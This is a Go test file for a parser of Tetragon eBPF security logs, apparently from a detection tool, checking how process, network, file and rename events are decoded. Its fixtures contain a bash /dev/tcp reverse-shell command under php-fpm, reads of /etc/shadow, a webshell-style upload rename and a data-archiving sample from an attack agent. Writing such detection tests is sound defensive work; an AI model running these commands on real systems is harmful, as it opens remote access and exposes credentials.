package parser

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func tgExecID(node string, pid int) string {
	return base64.StdEncoding.EncodeToString([]byte(fmt.Sprintf("%s:9000%d:%d", node, pid, pid)))
}

func TestSniffTetragon(t *testing.T) {
	cases := []struct {
		line string
		want bool
	}{
		{`{"process_exec":{"process":{"pid":1}},"node_name":"n","time":"2026-03-14T10:00:00Z"}`, true},
		{`{"process_kprobe":{"process":{"pid":1}},"time":"2026-03-14T10:00:00Z"}`, true},
		{`{"rate_limit_info":{"number_of_dropped_process_events":"3"},"time":"2026-03-14T10:00:00Z"}`, true},
		{`{"process_exec":"x"}`, false},
		{`{"rule":"r","priority":"Notice","output":"o"}`, false},
		{`{`, false},
		{`process_exec`, false},
	}
	for _, c := range cases {
		if got := sniffTetragon([]byte(c.line)); got != c.want {
			t.Errorf("sniffTetragon(%s) = %t, want %t", c.line, got, c.want)
		}
	}
}

func TestTetragonDecoder(t *testing.T) {
	par := fmt.Sprintf(`{"exec_id":%q,"pid":2140,"uid":33,"binary":"/usr/sbin/php-fpm8.2","arguments":"--nodaemonize","start_time":"2026-03-14T09:00:00Z","parent_exec_id":%q}`, tgExecID("w", 2140), tgExecID("w", 2101))
	exec := func(pid string) string {
		return fmt.Sprintf(`{"process_exec":{"process":{"exec_id":"x","pid":%s,"uid":"33","cwd":"/srv","binary":"/bin/sh","arguments":"-c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"","start_time":"2026-03-14T10:20:37Z","pod":{"namespace":"shop","name":"web-0","container":{"id":"containerd://abc","name":"php","image":{"name":"php:8.2"}}},"in_init_tree":false},"parent":%s},"node_name":"w","time":"2026-03-14T10:20:37.402Z"}`, pid, par)
	}
	long := strings.Repeat("A", 70<<10)
	rtRun(t, FormatTetragon, []rtCase{
		{name: "exec synthesizes its unseen parent", in: exec("2310"), kinds: []Kind{KindExec, KindExec}, check: func(t *testing.T, evs []*Event) {
			p, c := evs[0], evs[1]
			rtWant(t, "parent.Synth", p.Synth, SynthParent)
			rtWant(t, "parent.PID", p.PID, 2140)
			rtWant(t, "parent.PPID", p.PPID, 2101) // from the parent's parent_exec_id
			rtWant(t, "parent.Time", p.Time.Format("15:04:05"), "09:00:00")
			rtWant(t, "PID", c.PID, 2310)
			rtWant(t, "PPID", c.PPID, 2140)
			rtWant(t, "Args", fmt.Sprintf("%q", c.Args), `["/bin/sh" "-c" "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]`)
			rtWant(t, "UID", c.UID, NewID(33))
			rtWant(t, "Host", c.Host, "w")
			rtWant(t, "Container", c.Container(), Container{ID: "abc", Name: "php", Image: "php:8.2", Pod: "web-0", Namespace: "shop", Runtime: "containerd"})
			rtWant(t, "Message", c.Message, "not in the container's init tree (kubectl exec, nsenter)")
			rtWant(t, "Time", c.Time.Format("15:04:05.000"), "10:20:37.402")
		}},
		{name: "parent synthesized once", in: exec("2310") + "\n" + exec("2311"), kinds: []Kind{KindExec, KindExec, KindExec}},
		{name: "pid as a string", in: exec(`"2310"`), kinds: []Kind{KindExec, KindExec}},
		{name: "pid of a wrong type", in: exec(`{"n":1}`), wantErr: ErrFormat},
		{name: "truncated line", in: exec("2310")[:200], wantErr: ErrFormat},
		{name: "no time", in: `{"process_exit":{"process":{"pid":5,"binary":"/bin/x"}}}`, wantErr: ErrField},
		{name: "event without process", in: `{"process_exec":{},"time":"2026-03-14T10:20:37Z"}`, wantErr: ErrFormat},
		{name: "exec without fork keeps the pid and finds the real parent", kinds: []Kind{KindExec, KindExec},
			in: fmt.Sprintf(`{"process_exec":{"process":{"pid":700,"binary":"/usr/sbin/nginx","arguments":"-g \"daemon off;\""},"parent":{"pid":700,"binary":"/docker-entrypoint.sh","arguments":"/docker-entrypoint.sh nginx","parent_exec_id":%q}},"time":"2026-03-14T10:00:00Z"}`, tgExecID("w", 681)),
			check: func(t *testing.T, evs []*Event) {
				rtWant(t, "synth.PID", evs[0].PID, 700)
				rtWant(t, "synth.PPID", evs[0].PPID, 681)
				rtWant(t, "PPID", evs[1].PPID, 681)
				rtWant(t, "Args", fmt.Sprintf("%q", evs[1].Args), `["/usr/sbin/nginx" "-g" "daemon off;"]`)
			}},
		{name: "tcp_connect", kinds: []Kind{KindExec, KindConnect},
			in: `{"process_kprobe":{"process":{"pid":"2312","binary":"/bin/bash","arguments":"-i"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","daddr":"127.0.0.1","dport":"4444"}}]},"time":"2026-03-14T10:20:37Z"}`,
			check: func(t *testing.T, evs []*Event) {
				rtWant(t, "synth.Synth", evs[0].Synth, SynthProcess)
				rtWant(t, "Peer", evs[1].Peer.String(), "127.0.0.1:4444")
				if evs[1].Args != nil {
					t.Errorf("connect carries Args %q", evs[1].Args)
				}
			}},
		{name: "file permission read and write", kinds: []Kind{KindExec, KindFileRead, KindFileWrite},
			in: `{"process_kprobe":{"process":{"pid":9,"binary":"/bin/cat"},"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/shadow"}},{"int_arg":4}]},"time":"2026-03-14T10:20:37Z"}
{"process_kprobe":{"process":{"pid":9,"binary":"/bin/cat"},"function_name":"security_file_permission","args":[{"file_arg":{"path":"etc/passwd"}},{"int_arg":2}]},"time":"2026-03-14T10:20:38Z"}`,
			check: func(t *testing.T, evs []*Event) {
				rtWant(t, "Path", evs[1].Path, "/etc/shadow")
				rtWant(t, "Path", evs[2].Path, "/etc/passwd")
			}},
		{name: "fd_install and an unknown hook", kinds: []Kind{KindExec, KindFileRead, KindOther},
			in: `{"process_kprobe":{"process":{"pid":9,"binary":"/bin/cat"},"function_name":"fd_install","args":[{"int_arg":3},{"file_arg":{"path":"/etc/hosts"}}]},"time":"2026-03-14T10:20:37Z"}
{"process_kprobe":{"process":{"pid":9,"binary":"/bin/cat"},"function_name":"commit_creds","args":[{"cred_arg":{}}]},"time":"2026-03-14T10:20:38Z"}`},
		{name: "exit", kinds: []Kind{KindExec, KindExit},
			in:    `{"process_exit":{"process":{"pid":9,"binary":"/bin/sleep"},"signal":"SIGKILL","status":"0"},"time":"2026-03-14T10:20:37Z"}`,
			check: func(t *testing.T, evs []*Event) { rtWant(t, "Message", evs[1].Message, "signal SIGKILL") }},
		{name: "old process_connect", kinds: []Kind{KindExec, KindConnect},
			in: `{"process_connect":{"process":{"pid":9,"binary":"/usr/bin/nc"},"destination_ip":"10.0.0.9","destination_port":443},"time":"2026-03-14T10:20:37Z"}`},
		{name: "a cloned child acting before its exec is a fork, not an exec", kinds: []Kind{KindExec, KindFork, KindConnect},
			in: fmt.Sprintf(`{"process_kprobe":{"process":{"exec_id":"c","pid":1605,"binary":"/usr/bin/bash","arguments":"-c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"","flags":"clone","parent_exec_id":%q},"parent":{"exec_id":%q,"pid":1604,"binary":"/usr/bin/bash","arguments":"-c \"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\"","flags":"execve clone"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","daddr":"127.0.0.1","dport":4444}}]},"time":"2026-03-14T10:20:37Z"}`, tgExecID("w", 1604), tgExecID("w", 1604)),
			check: func(t *testing.T, evs []*Event) {
				rtWant(t, "parent.Synth", evs[0].Synth, SynthParent)
				rtWant(t, "fork.PID", evs[1].PID, 1604)
				rtWant(t, "fork.Child", evs[1].Child, 1605)
				rtWant(t, "connect.PID", evs[2].PID, 1605)
			}},
		{name: "rename: the new name is the path", kinds: []Kind{KindExec, KindRename},
			in: `{"process_kprobe":{"process":{"pid":9,"binary":"/usr/sbin/php-fpm8.2"},"function_name":"security_path_rename","args":[{"path_arg":{"path":"/tmp/php58jp4m"}},{"path_arg":{"path":"/var/www/html/uploads/avatar.php"}}]},"time":"2026-03-14T10:20:37Z"}`,
			check: func(t *testing.T, evs []*Event) {
				rtWant(t, "Path", evs[1].Path, "/var/www/html/uploads/avatar.php")
				rtWant(t, "OldPath", evs[1].OldPath, "/tmp/php58jp4m")
			}},
		{name: "loader and rate limit skipped", in: `{"process_loader":{"process":{"pid":1}},"time":"2026-03-14T10:20:37Z"}
{"rate_limit_info":{"number_of_dropped_process_events":"12"},"time":"2026-03-14T10:20:37Z"}`},
		{name: "line over 64 KiB", kinds: []Kind{KindExec},
			in:    `{"process_exec":{"process":{"pid":9,"binary":"/bin/echo","arguments":"` + long + `"}},"time":"2026-03-14T10:20:37Z"}`,
			check: func(t *testing.T, evs []*Event) { rtWant(t, "len(Args[1])", len(evs[0].Args[1]), len(long)) }},
		{name: "pretty-printed document", kinds: []Kind{KindExec},
			in: "{\n  \"process_exec\": {\n    \"process\": {\"pid\": 9, \"binary\": \"/bin/id\"}\n  },\n  \"time\": \"2026-03-14T10:20:37Z\"\n}"},
		{name: "cut pretty document, then a good line", wantErr: ErrFormat, kinds: []Kind{KindExec},
			in: "{\n  \"process_exec\": {\n" + `{"process_exec":{"process":{"pid":9,"binary":"/bin/id"}},"time":"2026-03-14T10:20:37Z"}`},
		{name: "pretty document left open at the end", wantErr: ErrFormat, in: "{\n  \"process_exec\": {\n"},
	})
}

func TestTetragonTooLong(t *testing.T) {
	d := newTetragonDecoder(&Input{Path: "x"}, &Options{})
	_, err := d.Line(Pos{File: "x", Line: 1}, make([]byte, maxLine), nil)
	if !errorsIs(err, ErrTooLong) {
		t.Fatalf("err = %v, want ErrTooLong", err)
	}
}

func TestTetragonFixture(t *testing.T) {
	evs := rtGolden(t, "testdata/tetragon/webshell.json", FormatTetragon)
	var connects int
	for _, ev := range evs {
		if ev.Kind == KindConnect && ev.Peer.Port == 4444 && ev.Proc != nil && ev.Proc.Parent != nil && ev.Proc.Parent.Parent != nil {
			// bash -i → bash -c → sh -c → php-fpm: the tree holds the chain.
			if got := ev.Proc.Parent.Parent.Parent; got == nil || got.Exe != "/usr/sbin/php-fpm8.2" {
				t.Errorf("reverse shell's ancestor = %+v, want php-fpm", got)
			}
			connects++
		}
	}
	rtWant(t, "reverse-shell connects", connects, 1)
}

func TestTetragonPublicSamples(t *testing.T) {
	dir := rtPublic(t, "tetragon")
	cases := []struct {
		file  string
		kinds []Kind
		check func(t *testing.T, evs []*Event)
	}{
		{"nginx-execution.json", []Kind{KindExec, KindExec}, func(t *testing.T, evs []*Event) {
			rtWant(t, "parent.Exe", evs[0].Exe, "/docker-entrypoint.sh")
			rtWant(t, "Exe", evs[1].Exe, "/usr/sbin/nginx")
			rtWant(t, "PID", evs[1].PID, 12700)
			rtWant(t, "PPID", evs[1].PPID, 12681)
			rtWant(t, "Args", fmt.Sprintf("%q", evs[1].Args), `["/usr/sbin/nginx" "-g" "daemon off;"]`)
			rtWant(t, "Container.Pod", evs[1].Container().Pod, "privileged-pod")
			rtWant(t, "Container.Runtime", evs[1].Container().Runtime, "docker")
			rtWant(t, "Host", evs[1].Host, "minikube")
		}},
		{"merlin-agent-sh.json", []Kind{KindExec, KindExec}, func(t *testing.T, evs []*Event) {
			rtWant(t, "Args[2]", evs[1].Args[2], "7z a s3nsitiv3.7z ../ops_bank_accounts/")
			rtWant(t, "PPID", evs[1].PPID, 41030)
		}},
		{"process_kprobe.json", []Kind{KindExec, KindExec, KindFileWrite}, func(t *testing.T, evs []*Event) {
			rtWant(t, "Path", evs[2].Path, "/etc/passwd")
			rtWant(t, "Op", evs[2].Op, "__x64_sys_write")
			rtWant(t, "Exe", evs[2].Exe, "/usr/bin/vi")
		}},
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(dir, c.file))
			if err != nil {
				t.Fatal(err)
			}
			// The samples are pretty-printed; the decoder joins the lines.
			evs, errs, _ := rtDecode(t, FormatTetragon, c.file, data)
			rtCheckEvents(t, evs, errs)
			if len(errs) > 0 {
				t.Fatal(errs)
			}
			var kinds []Kind
			for _, ev := range evs {
				kinds = append(kinds, ev.Kind)
			}
			rtWant(t, "kinds", fmt.Sprint(kinds), fmt.Sprint(c.kinds))
			if len(kinds) == len(c.kinds) {
				c.check(t, evs)
			}
		})
	}
}
